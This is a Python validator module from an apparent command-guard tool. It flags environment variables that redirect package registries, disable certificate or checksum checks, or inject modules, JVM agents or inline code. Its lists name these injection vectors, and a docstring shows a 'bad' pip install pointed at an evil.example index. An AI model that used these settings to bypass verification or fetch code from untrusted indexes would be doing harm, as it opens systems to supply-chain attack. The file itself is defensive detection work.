"""Environment variables judged by what their value makes the next program reach or load.

Each variable's value is of a kind, and is judged as that kind:

- a package index or registry URL (``PIP_INDEX_URL``, ``npm_config_registry``,
  ``CARGO_REGISTRIES_<NAME>_INDEX``): as the program's own option, so the supply-chain rules
  that judge ``pip install --index-url URL`` judge it; ``GOPROXY`` other than the public proxy;
- a switch that turns off certificate or checksum checks (``GIT_SSL_NO_VERIFY=1``,
  ``NODE_TLS_REJECT_UNAUTHORIZED=0``, ``GONOSUMDB``, ``GOFLAGS=-insecure``) or a CA file
  from outside the workspace and the system's stores (``REQUESTS_CA_BUNDLE=/tmp/ca.pem``);
- a module imported: ``PYTHONWARNINGS``' category field (``ignore::x.Warn`` imports ``x``);
- JVM options that load an agent or run a command (``-javaagent:``, ``-agentpath:``,
  ``-XX:OnOutOfMemoryError=``) in ``JAVA_TOOL_OPTIONS``, ``MAVEN_OPTS``, ``GRADLE_OPTS``...
"""

from __future__ import annotations

import re
import sys

from clawgate.decision import NO_OPINION, MayRun, Outcome, Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.shell.model import SimpleCommand, Word
from clawgate.validators import shapes as sh
from clawgate.validators.base import Context, Validator, register
from clawgate.validators.envsettings import NPM_LIKE, npm_variables
from clawgate.validators.envvars import assignments, inside_workspace
from clawgate.validators.indexhosts import index_kind
from clawgate.validators.runfiles import invoked

_DECLARERS = frozenset({"export", "declare", "typeset", "local", "readonly", "env"})
# variable -> the command line that reaches the same index, the value put in at {}
_INDEX_AS_OPTION = {
    "PIP_INDEX_URL": "pip install --index-url {} package",
    "PIP_EXTRA_INDEX_URL": "pip install --extra-index-url {} package",
    "PIP_FIND_LINKS": "pip install --find-links {} package",
    "PIP_TRUSTED_HOST": "pip install --trusted-host {} package",
    "UV_INDEX_URL": "pip install --index-url {} package",
    "UV_DEFAULT_INDEX": "pip install --index-url {} package",
    "UV_EXTRA_INDEX_URL": "pip install --extra-index-url {} package",
    "UV_INDEX": "pip install --extra-index-url {} package",
    "UV_FIND_LINKS": "pip install --find-links {} package",
    "NPM_CONFIG_REGISTRY": "npm install --registry {} package",
    "YARN_REGISTRY": "npm install --registry {} package",
    "YARN_NPM_REGISTRY_SERVER": "npm install --registry {} package",
    "BUN_CONFIG_REGISTRY": "npm install --registry {} package",
}
_CARGO_INDEX = lazy_pattern(r"^CARGO_REGISTRIES_\w+_INDEX$|^CARGO_REGISTRY_INDEX$")
_PUBLIC_GOPROXY = frozenset({"https://proxy.golang.org", "direct", "off", ""})
_CHECKS_OFF = {"GIT_SSL_NO_VERIFY": None, "NODE_TLS_REJECT_UNAUTHORIZED": "0",
               "PYTHONHTTPSVERIFY": "0", "NPM_CONFIG_STRICT_SSL": "false",
               "YARN_ENABLE_STRICT_SSL": "false", "GONOSUMDB": None, "GONOSUMCHECK": None,
               "GONOSUMCHECKS": None, "GOINSECURE": None, "GOSUMDB": "off",
               "GOFLAGS": "-insecure", "UV_INSECURE_HOST": None, "GIT_SSL_CAPATH": None}
_CA_FILES = frozenset({"REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "SSL_CERT_DIR",
                       "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "PIP_CERT", "UV_CERT",
                       "AWS_CA_BUNDLE", "CARGO_HTTP_CAINFO"})
_SYSTEM_CERTS = lazy_pattern(r"^/(?:etc/(?:ssl|pki|ca-certificates)|usr/(?:local/)?share/"
                             r"ca-certificates|usr/lib/ssl)/")
JVM_VARIABLES = frozenset({"JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS",
                           "JAVA_OPTS", "MAVEN_OPTS", "GRADLE_OPTS", "SBT_OPTS", "ANT_OPTS",
                           "KAFKA_OPTS", "CATALINA_OPTS"})
_JVM_AGENT = lazy_pattern(r"^-(?:javaagent|agentpath|agentlib):|^-Xbootclasspath")
_JVM_COMMAND = lazy_pattern(r"(?:^|\s)-XX:(?:OnError|OnOutOfMemoryError)=(.*)$", re.S)


@register
class PayloadVariable(Validator):
    """A variable whose value makes the next program fetch from another package index, skip
    certificate or checksum checks, import a module, or load a JVM agent: judged as that
    index option (the supply-chain rules), ASK for checks turned off and loads from outside
    the workspace, the command a JVM option runs checked as a command.

    npm's ``--node-options`` is ``NODE_OPTIONS`` for the scripts it runs, and judged so.

    Bad: ``PIP_INDEX_URL=https://evil.example/simple pip install requests``. Harmless:
    ``MAVEN_OPTS=-Xmx2g mvn package``.
    """

    id = "CG-ENV-005"

    def shapes(self, program: str | None) -> int:
        return sh.ANY if program in _DECLARERS or program in NPM_LIKE else sh.ASSIGN

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        if not cmd.assignments and cmd.program not in _DECLARERS | NPM_LIKE:
            return NO_OPINION
        own = invoked(cmd)
        # npm's options that are these variables for every script it runs (--node-options)
        # are judged as the variables they are
        pairs = [*assignments(cmd), *npm_variables(cmd)]
        verdicts = [self._judge(name, value, ctx, own) for name, value in pairs]
        found = [v for v in verdicts if v.outcome is not Outcome.PASSTHROUGH or v.nested]
        if not found:
            return NO_OPINION
        worst = max(found, key=lambda v: v.outcome)
        nested = tuple(n for v in found for n in v.nested)
        reason = worst.reasons[0] if worst.reasons else None
        if reason is None:
            return Verdict.unwrap(*nested)
        return Verdict.unwrap(*nested, outcome=worst.outcome, rule_id=self.id,
                              message=reason.message)

    def _judge(self, name: str, word: Word, ctx: Context, own: frozenset[str]) -> Verdict:
        value = word.value
        upper = name.upper()
        if upper in _INDEX_AS_OPTION or _CARGO_INDEX.match(upper) or upper == "GOPROXY":
            return self._index(upper, value)
        if upper in _CHECKS_OFF:
            wanted = _CHECKS_OFF[upper]
            off = value is None or (value not in ("", "0", "false") if wanted is None
                                    else wanted in value.split() or value == wanted)
            return Verdict.ask(self.id, f"{name}={word.text} turns off certificate or checksum "
                               "checks", hint="keep the checks on") if off else _NONE
        if upper in _CA_FILES and value != "":
            trusted = value is not None and (_SYSTEM_CERTS.match(value) or
                                             inside_workspace(word, ctx))
            return _NONE if trusted else Verdict.ask(
                self.id, f"{name} trusts certificates from {word.text}",
                hint="use the system's certificate store or one in the project")
        if upper == "PYTHONWARNINGS":
            module = imported_module(value, own)
            return _NONE if module is None else Verdict.ask(
                self.id, f"PYTHONWARNINGS makes Python import {module!r} at start-up")
        if upper in JVM_VARIABLES:
            return self._jvm(name, value, ctx)
        if upper == "NODE_OPTIONS" and value is not None and "data:" in value:
            return self._inline_module(value)
        if upper == "PERL5OPT" and value is not None:
            return self._perl_modules(value)
        return _NONE

    def _perl_modules(self, value: str) -> Verdict:
        """``-MMOD`` in ``PERL5OPT`` is ``use MOD;`` in every perl run, and text after the
        name is code (``-Mstrict;system("…")``): checked as ``perl -e CODE``."""
        import shlex

        from clawgate.validators.interpreters import perl_module_code

        codes = [code for option in value.split()
                 if (code := perl_module_code(option)) is not None]
        # perl splits the value at white space, which may cut the code short; read whole, as
        # a value written without spaces would be, its DENY counts too
        whole = perl_module_code(value.strip()) if len(value.split()) > 1 else None
        if not codes and whole is None:
            return _NONE
        return Verdict.unwrap(*(f"perl -e {shlex.quote(code)}" for code in codes), *(
            [MayRun(f"perl -e {shlex.quote(whole)}")] if whole is not None else []))

    def _inline_module(self, value: str) -> Verdict:
        """``--import=data:text/javascript,CODE``: code given in the value, checked as
        ``node -e CODE``."""
        import shlex

        found = _DATA_MODULE.search(value)
        if found is None:
            return Verdict.ask(self.id, "NODE_OPTIONS loads a data: module")
        return Verdict.unwrap(f"node -e {shlex.quote(found.group(1))}", outcome=Outcome.ASK,
                              rule_id=self.id, message="NODE_OPTIONS loads code it holds")

    def _index(self, name: str, value: str | None) -> Verdict:
        if value is None:
            return Verdict.ask(self.id, f"{name} points a package manager at an index known "
                               "only at run time")
        if name == "GOPROXY":
            entries = {e.rstrip("/") for e in value.replace("|", ",").split(",")}
            plain = next((e for e in entries if index_kind(e) == "plain"), None)
            if plain is not None:
                return Verdict.deny(self.id, f"GOPROXY fetches Go modules from {plain} over "
                                    "plain HTTP at a public address: whoever is on the path "
                                    "chooses the code", hint="use the public module proxy")
            return _NONE if entries <= _PUBLIC_GOPROXY else Verdict.ask(
                self.id, f"GOPROXY fetches Go modules from {value!r}",
                hint="use the public module proxy")
        if name.startswith("CARGO_"):
            return Verdict.ask(self.id, f"{name} adds a crate registry at {value!r}")
        import shlex

        line = _INDEX_AS_OPTION[name].format(shlex.quote(value))
        return Verdict.unwrap(line)

    def _jvm(self, name: str, value: str | None, ctx: Context) -> Verdict:
        if value is None:
            return Verdict.ask(self.id, f"{name} gives the JVM options known only at run time")
        command = _JVM_COMMAND.search(value)  # the rest of the value: the command's words
        if command is not None:
            return Verdict.unwrap(command.group(1).strip("'\""), outcome=Outcome.ASK,
                                  rule_id=self.id, message=f"{name} makes the JVM run "
                                  f"{command.group(1)!r}")
        for option in value.split():
            if _JVM_AGENT.match(option):
                path = option.partition(":")[2].partition("=")[0]
                if option.startswith("-javaagent:") and inside_workspace(Word(path, path), ctx):
                    continue  # the project's own agent jar (a coverage agent)
                return Verdict.ask(self.id, f"{name} loads {option!r} into every JVM",
                                   hint="keep agents inside the project")
        return _NONE


_NONE = NO_OPINION
_DATA_MODULE = lazy_pattern(r"data:(?:text|application)/(?:java|ecma)script,(.*)$", re.S)


def imported_module(value: str | None, own: frozenset[str] = frozenset()) -> str | None:
    """The first non-standard module ``PYTHONWARNINGS`` makes Python import: a filter's third
    field is a warning category, and a dotted one is imported (``ignore::x.y.Warn`` imports
    ``x.y``). None when every category is a builtin, the standard library's, or the package
    of the program run (``ignore::pytest.PytestRemovedIn8Warning`` for ``pytest``)."""
    if value is None:
        return "(a value known only at run time)"
    for entry in value.split(","):
        fields = entry.split(":")
        category = fields[2].strip() if len(fields) > 2 else ""
        if "." in category:
            module = category.rpartition(".")[0]
            top = module.split(".")[0]
            if top not in sys.stdlib_module_names and top not in own:
                return module
    return None
